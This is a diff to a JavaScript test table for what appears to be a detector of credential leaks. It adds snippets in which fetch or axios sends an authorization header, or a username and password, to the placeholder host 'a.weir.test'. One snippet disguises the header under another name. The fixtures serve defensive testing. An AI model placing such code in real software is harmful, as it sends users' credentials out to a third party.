@@ -58,6 +58,21 @@ test.each([
     true,
   ],
   [
+    'handed on as what signs in',
+    `export const f = (req) => { fetch('https://a.weir.test', { headers: { authorization: req.headers.authorization } }); }`,
+    false,
+  ],
+  [
+    'what signs in',
+    `import axios from 'axios'; export function f(username, password) { axios.post('https://a.weir.test', {}, { auth: { username, password } }); }`,
+    false,
+  ],
+  [
+    'in a header of another name',
+    `export const f = (req) => { fetch('https://a.weir.test', { headers: { 'x-from': req.headers.authorization } }); }`,
+    true,
+  ],
+  [
     'hashed',
     `import { hash } from 'h'; export function f(password) { fetch('https://a.weir.test', { body: hash(password) }); }`,
     false,
